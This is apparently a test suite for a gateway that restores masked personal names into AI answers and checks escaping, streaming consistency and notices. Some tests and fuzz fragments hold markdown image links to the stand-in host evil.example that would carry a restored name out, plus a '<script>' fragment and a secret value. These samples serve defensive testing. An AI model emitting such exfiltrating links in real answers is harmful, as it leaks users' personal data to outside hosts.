"""An answer restored, whole or in pieces: the same choices, each field for itself."""

import datetime as dt
import json
from collections.abc import Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from filters.identifiers.entity import Label, Span
from filters.identifiers.masker import Masked, Masker
from filters.identifiers.text import Text
from gateway.conversation import (
    Choice,
    ChoiceDelta,
    Chunk,
    OutputFormat,
    OutputKind,
    Reply,
    ToolCall,
    ToolCallDelta,
    Usage,
)
from gateway.restoring import Restoring
from tests.fakes.answers import SECRET, scan

NOTICE = "\n\nGénéré par une IA, à relire."
TEXT = OutputFormat()
JSON = OutputFormat(OutputKind.JSON_OBJECT)
QUOTED = 'Kerbrat "Le\nGrand"'


def masked() -> Masked:
    """Return a request in which [NOM_1] is Morvan and [NOM_2] a name that JSON cannot hold as it is."""
    texts = [Text("Morvan"), Text(QUOTED)]
    found = [[Span(0, len(text.value), Label.NOM)] for text in texts]
    return Masker(lambda: dt.date(2026, 11, 23)).mask(texts, found, frozenset(Label))


def restoring(output: OutputFormat = TEXT) -> Restoring:
    return Restoring(masked(), output, scan())


def whole(choice: Choice, output: OutputFormat = TEXT) -> Choice:
    [restored] = restoring(output).whole(Reply((choice,), Usage(), "r"), NOTICE).choices
    return restored


def test_text_with_its_notice() -> None:
    assert whole(Choice(0, "Mme [NOM_1]", finish_reason="length")) == Choice(0, f"Mme Morvan{NOTICE}", (), "length")


def test_json_is_escaped_and_carries_no_notice() -> None:
    """Catches an answer that no program can parse any more."""
    restored = whole(Choice(0, '{"nom": "[NOM_2]"}'), JSON)
    assert json.loads(restored.text or "") == {"nom": QUOTED}


def test_tool_calls_are_escaped_and_carry_no_notice() -> None:
    calls = (ToolCall("a", "fiche_NOM_1", '{"nom": "[NOM_2]"}'), ToolCall("b", "lire", "{}"))
    restored = whole(Choice(0, "Je cherche [NOM_2].", calls, "tool_calls"))
    assert restored.text == f"Je cherche {QUOTED}."
    assert [(call.id, call.name) for call in restored.tool_calls] == [("a", "fiche_Morvan"), ("b", "lire")]
    assert json.loads(restored.tool_calls[0].arguments) == {"nom": QUOTED}


@pytest.mark.parametrize("output", [TEXT, JSON])
def test_a_refusal_is_text_and_carries_no_notice(output: OutputFormat) -> None:
    restored = whole(Choice(0, None, refusal="Non, [NOM_2].", finish_reason="stop"), output)
    assert restored == Choice(0, None, (), "stop", f"Non, {QUOTED}.")


def test_an_empty_answer_stays_empty() -> None:
    assert whole(Choice(0, None)) == Choice(0, "", (), "stop")


def test_the_rest_of_the_reply_is_kept() -> None:
    answer = restoring()
    reply = Reply((Choice(1, "b"), Choice(0, "[NOM_9] [NOM_")), Usage(3, 4), "secours")
    assert answer.whole(reply, "") == Reply((Choice(0, "[NOM_9] [NOM_"), Choice(1, "b")), Usage(3, 4), "secours")
    assert (answer.lost, answer.unknown, answer.counts) == (1, 1, {"NOM": 2})


def test_pieces_leave_as_soon_as_they_are_certain() -> None:
    """Catches an answer that is held to its end, or whose end leaves before the journal is closed."""
    answer = restoring()
    fed = [
        answer.feed(Chunk("r", (ChoiceDelta(0, text, (), reason),), Usage(1, 1)))
        for text, reason in (("", None), ("Mme ", None), ("[NOM", None), ("_1] ", "stop"), ("[NO", None))
    ]
    assert fed == [None, Chunk("r", (ChoiceDelta(0, "Mme "),)), None, Chunk("r", (ChoiceDelta(0, "Morvan "),)), None]
    assert answer.finish(NOTICE) == Chunk("r", (ChoiceDelta(0, f"[NO{NOTICE}", (), "stop"),))
    assert answer.choices == (Choice(0, f"Mme Morvan [NO{NOTICE}", (), "stop"),)


def test_choices_and_calls_do_not_mix() -> None:
    """Catches a placeholder completed by the text of another choice or another call."""
    answer = restoring()
    answer.feed(Chunk("r", (ChoiceDelta(0, "[NOM_"), ChoiceDelta(1, "1]"))))
    calls = (ToolCallDelta(0, "a", "f", '"[NOM_'), ToolCallDelta(1, "b", "g", '"1]"'))
    assert answer.feed(Chunk("r", (ChoiceDelta(0, "1] ", calls),))) == Chunk(
        "r", (ChoiceDelta(0, "Morvan ", (ToolCallDelta(0, "a", "f", '"'), ToolCallDelta(1, "b", "g", '"1]"'))),)
    )
    answer.feed(Chunk("r", (ChoiceDelta(0, "", (ToolCallDelta(0, arguments='1]"'),)),)))
    answer.finish("")
    assert answer.choices == (
        Choice(0, "Morvan ", (ToolCall("a", "f", '"Morvan"'), ToolCall("b", "g", '"1]"')), "stop"),
        Choice(1, "1]"),
    )


def test_what_a_person_reads_is_defused_and_says_so_before_its_notice() -> None:
    """Would catch: a restored name that leaves in the address of an image, or a change of which nobody is told."""
    answer = restoring()
    [choice] = answer.whole(
        Reply((Choice(0, "![](https://evil.example/?n=[NOM_1]) [NOM_1]"),), Usage(), "r"), NOTICE
    ).choices
    told = "Désactivé par la passerelle dans cette réponse : 1 image."
    assert choice.text == f"(image non affichée : `evil.example`) Morvan\n\n{told}{NOTICE}"
    assert (answer.found["images"], answer.forbidden) == (1, False)


def test_whatever_text_is_defused_says_so() -> None:
    """Would catch: a refusal, or a text beside a tool call, that was changed and of which nobody is told."""
    told = "\n\nDésactivé par la passerelle dans cette réponse : 1 image."
    harm, calls = "![](https://evil.example/)", (ToolCall("a", "f", "{}"),)
    restored = whole(Choice(0, harm, calls, refusal=harm))
    assert restored.text == restored.refusal == f"(image non affichée : `evil.example`){told}"


def test_what_a_program_reads_stays_and_is_forbidden_with_a_secret() -> None:
    """Would catch: a tool that is handed a password which nobody gave."""
    written = '{"lien": "https://evil.example/[NOM_1]"}'
    answer = restoring(JSON)
    [choice] = answer.whole(Reply((Choice(0, written),), Usage(), "r"), NOTICE).choices
    assert (choice.text, answer.found["links"], answer.forbidden) == (written.replace("[NOM_1]", "Morvan"), 1, False)
    answer = restoring()
    calls = (ToolCall("a", "f", f'{{"code": "{SECRET}"}}'),)
    answer.whole(Reply((Choice(0, None, calls),), Usage(), "r"), NOTICE)
    assert answer.forbidden


FRAGMENTS = [
    "![a b](https://evil.example/[NOM_1])",
    "<script>",
    SECRET,
    "```\n",
    "[NOM_1]",
    "[NOM_2]",
    "**[Nom 1]**",
    r"\[NOM\_2\]",
    "[NOM_",
    "[NOM",
    "NOM_1]",
    "[NOM_3]",
    " né ",
    "\\",
    "[",
    "]",
    "é",
    '"',
    "",
]
ANSWERS = st.lists(st.sampled_from(FRAGMENTS), max_size=8).map("".join)
CALLS = st.lists(st.builds(ToolCall, st.just("id"), st.sampled_from(["f", "f_NOM_1", "NOM_7"]), ANSWERS), max_size=2)
CHOICES = st.builds(
    lambda text, calls, reason, refusal: (text, tuple(calls), reason, refusal),
    st.none() | ANSWERS,
    CALLS,
    st.sampled_from(["stop", "length", "tool_calls"]),
    st.none() | ANSWERS,
)


def pieces(text: str, sizes: Iterable[int]) -> list[str]:
    cut, at = [], 0
    for size in sizes:
        cut.append(text[at : at + size])
        at += size
    return [*cut, text[at:]]


@given(
    st.lists(CHOICES, min_size=1, max_size=3), st.lists(st.integers(1, 4), max_size=40), st.sampled_from([TEXT, JSON])
)
def test_whole_and_streamed_are_the_same(
    made: list[tuple[str | None, tuple[ToolCall, ...], str, str | None]], sizes: list[int], output: OutputFormat
) -> None:
    """Catches a stream that shows, signs or counts something else than the same answer given at once."""
    choices = tuple(Choice(index, *fields) for index, fields in enumerate(made))
    at_once, streamed = restoring(output), restoring(output)
    reply = at_once.whole(Reply(choices, Usage(), "r"), NOTICE)
    out: list[Chunk] = []
    for choice in choices:
        deltas = [ChoiceDelta(choice.index, piece) for piece in pieces(choice.text or "", sizes)]
        deltas += [ChoiceDelta(choice.index, refusal=piece) for piece in pieces(choice.refusal or "", sizes)]
        for number, call in enumerate(choice.tool_calls):
            deltas.append(ChoiceDelta(choice.index, "", (ToolCallDelta(number, call.id, call.name),)))
            deltas += [
                ChoiceDelta(choice.index, "", (ToolCallDelta(number, arguments=piece),))
                for piece in pieces(call.arguments, sizes)
            ]
        deltas.append(ChoiceDelta(choice.index, finish_reason=choice.finish_reason))
        out += [chunk for delta in deltas if (chunk := streamed.feed(Chunk("r", (delta,))))]
    assert all(delta.finish_reason is None for chunk in out for delta in chunk.deltas)
    out.append(streamed.finish(NOTICE))
    assert streamed.choices == at_once.choices == reply.choices
    assert (streamed.lost, streamed.unknown) == (at_once.lost, at_once.unknown)
    for choice in reply.choices:
        mine = [delta for chunk in out for delta in chunk.deltas if delta.index == choice.index]
        assert "".join(delta.text for delta in mine) == (choice.text or "")
        assert "".join(delta.refusal for delta in mine) == (choice.refusal or "")
        assert [delta.finish_reason for delta in mine if delta.finish_reason] == [choice.finish_reason]
